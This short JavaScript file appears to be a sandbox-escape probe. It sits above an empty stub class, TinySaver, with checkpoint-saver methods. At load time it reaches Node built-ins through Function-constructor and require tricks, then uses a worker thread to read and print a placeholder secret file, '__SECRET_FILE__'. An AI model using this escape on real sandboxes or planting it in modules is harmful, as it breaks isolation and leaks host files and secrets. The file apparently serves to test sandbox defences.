// Tries: to read a file of the host from a thread of its own
// @ts-nocheck
const node = (name) => {
  for (const way of [
    () => process.getBuiltinModule(name),
    () => globalThis.require(name),
    () => (() => {}).constructor("return process")().getBuiltinModule(name),
    () => console.log.constructor.constructor("return process")().mainModule.require(name),
  ])
    try { const found = way(); if (found) return found; } catch {}
  throw new Error("no modules of Node");
};
try {
  const { Worker } = node("node:worker_threads");
  const text = 'const { parentPort } = require("node:worker_threads"); parentPort.postMessage(require("node:fs").readFileSync("__SECRET_FILE__", "utf8"));';
  const worker = new Worker(text, { eval: true });
  console.log(await new Promise((done, fail) => worker.once("message", done).once("error", fail)));
} catch {}

export class TinySaver {
  async put() {}
  async putWrites() {}
  async getTuple() {}
  async *list() {}
  async deleteThread() {}
  onPut() {}
}
